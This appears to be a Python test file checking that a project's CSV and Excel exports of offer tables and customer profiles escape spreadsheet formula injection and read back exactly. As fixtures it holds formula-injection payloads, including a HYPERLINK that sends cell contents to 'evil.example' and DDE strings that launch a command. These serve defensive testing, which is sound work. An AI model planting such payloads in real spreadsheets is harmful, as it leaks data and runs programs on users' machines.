"""Every CSV the project writes opens in a spreadsheet as text, never as a formula, and
reads back exactly (offer tables from `offers export`, profiles from `profiles derive`)."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import msgspec
import openpyxl
import polars as pl
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from api.cli import cli
from offers.catalog.fields import Range
from offers.catalog.tables import OfferTable, Rule, dump_table, load_default_table
from offers.catalog.tabular import perks_path, read_table_file
from segmentation.cells import FORMULA_START, guard_frame, unguard_frame
from segmentation.snapshots import Snapshots

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CALC = "+cmd|' /C calc'!A0"
PAYLOADS = [
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",  # really begins with a quote: must come back with it
    "''@x",
    "'just a quote",
    "-5",  # text that looks like a number stays that text
]
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _run(data: Path, *args: str) -> Result:
    result = CliRunner().invoke(cli, ["--data", str(data), *args], terminal_width=200)
    assert result.exit_code == 0, result.output
    return result


def _hostile_table() -> OfferTable:
    """The default table with formula payloads in titles and descriptions, and negative
    numbers in numeric columns."""
    base = load_default_table()
    first = base.perks[0]
    titles = {"en": HYPERLINK, "zh-Hans": PAYLOADS[0], "zh-Hant": PAYLOADS[4]}
    perks = [msgspec.structs.replace(first, title=titles), *base.perks[1:]]
    extra = [
        Rule(
            id=f"payload-{i}",
            perk=first.id,
            priority=-3,
            when={"spend_12m": Range(min=-5.5, max=-1.0), "tier": ["-gold", f"=vip{i}"]},
            description=text,
        )
        for i, text in enumerate(PAYLOADS)
    ]
    rules = [msgspec.structs.replace(base.rules[0], description=CALC), *extra, *base.rules[1:]]
    return msgspec.structs.replace(base, perks=perks, rules=rules)


def _cells(path: Path) -> list[str]:
    """Every cell of a CSV file as a spreadsheet would see it (no header)."""
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    return [cell for row in rows[1:] for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    runs = [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    assert runs == []


def test_offers_export_csv_holds_no_formula_and_reads_back_exactly(tmp_path: Path) -> None:
    data = tmp_path / "data"
    table = _hostile_table()
    source = tmp_path / "hostile.toml"
    source.write_text(dump_table(table), encoding="utf-8")
    _run(data, "offers", "publish", str(source), "--reason", "payloads")
    exported = tmp_path / "x.csv"
    _run(data, "offers", "export", "-o", str(exported))

    cells = _cells(exported) + _cells(perks_path(exported))
    _assert_no_formula(cells)
    assert f"'{HYPERLINK}" in cells and f"'{CALC}" in cells
    assert "-3" in cells and "-5.5" in cells and "-1" in cells  # numbers stay numbers

    assert read_table_file(exported)[0] == table
    _run(data, "offers", "import", str(exported))  # back as the draft, through the CLI
    draft = tmp_path / "draft.toml"
    _run(data, "offers", "export", "--draft", "-o", str(draft))
    assert read_table_file(draft)[0] == table


def test_offers_export_xlsx_writes_payloads_as_text(tmp_path: Path) -> None:
    data = tmp_path / "data"
    table = _hostile_table()
    source = tmp_path / "hostile.toml"
    source.write_text(dump_table(table), encoding="utf-8")
    _run(data, "offers", "publish", str(source), "--reason", "payloads")
    exported = tmp_path / "x.xlsx"
    _run(data, "offers", "export", "-o", str(exported))
    book = openpyxl.load_workbook(exported)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert HYPERLINK in values and CALC in values
    assert read_table_file(exported)[0] == table


def test_profiles_derive_csv_holds_no_formula_and_imports_back(tmp_path: Path) -> None:
    ids = [HYPERLINK, CALC, "@x", "-7", "'=q", "c0001"]
    transactions = tmp_path / "tx.csv"
    pl.DataFrame(
        {
            "customer": [i for i in ids for _ in range(2)],
            "time": ["2024-01-02T10:00:00", "2024-03-04T10:00:00"] * len(ids),
            "amount": [10.0, -25.5] * len(ids),  # returns outweigh orders: negative spend
        }
    ).write_csv(transactions)
    exported = tmp_path / "derived.csv"
    args = ["--customer", "customer", "--time", "time", "--amount", "amount"]
    _run(tmp_path / "data", "profiles", "derive", str(transactions), *args, "-o", str(exported))

    _assert_no_formula(_cells(exported))
    assert f"'{HYPERLINK}" in _cells(exported)

    derived = tmp_path / "derived.parquet"
    _run(tmp_path / "d2", "profiles", "derive", str(transactions), *args, "-o", str(derived))
    _run(tmp_path / "data", "profiles", "import", str(exported))
    loaded = Snapshots(tmp_path / "data").load()
    expected = pl.read_parquet(derived)
    assert sorted(loaded["customer_id"]) == sorted(ids)
    joined = expected.join(loaded, on="customer_id", suffix="_csv")
    assert joined.height == len(ids)
    for column in ("monetary_12m", "frequency_12m", "recency_days"):
        assert joined[column].cast(pl.Float64).to_list() == joined[f"{column}_csv"].to_list()
    assert (joined["monetary_12m"] < 0).all()


@given(st.lists(st.one_of(st.none(), st.text(), st.sampled_from(FORMULA_START)), max_size=20))
def test_guarding_any_text_is_exact_and_leaves_no_formula(values: list[str | None]) -> None:
    frame = pl.DataFrame({"cell": values}, schema={"cell": pl.String})
    guarded = guard_frame(frame)
    _assert_no_formula([v for v in guarded["cell"] if v is not None])
    assert unguard_frame(guarded)["cell"].to_list() == values
